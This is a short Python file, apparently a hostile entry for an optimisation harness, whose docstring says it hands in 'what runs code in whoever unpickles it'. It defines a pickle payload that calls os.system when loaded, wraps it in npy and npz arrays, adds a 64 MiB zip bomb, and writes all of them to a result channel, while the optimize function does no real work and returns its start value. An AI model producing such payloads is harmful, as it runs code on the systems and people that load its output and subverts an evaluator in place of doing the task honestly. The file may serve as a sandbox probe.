"""Hand in what runs code in whoever unpickles it, also inside npy and npz."""

import io
import os
import pickle
import struct
import zipfile

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['tree']}/open/unpickled-{TARGETS['marker']}",)


def optimize(problem, start, seed, deadline, offer):
    array = np.empty(1, dtype=object)
    array[0] = Bomb()
    npy, npz, bomb = io.BytesIO(), io.BytesIO(), io.BytesIO()
    np.save(npy, array, allow_pickle=True)
    np.savez(npz, values=array)
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("values.npy", b"\0" * (64 << 20))
    for content in (pickle.dumps(Bomb()), npy.getvalue(), npz.getvalue(), bomb.getvalue()):
        os.write(3, struct.pack("<IB", len(content), 2) + content)
    quietly(offer, Bomb())
    return start
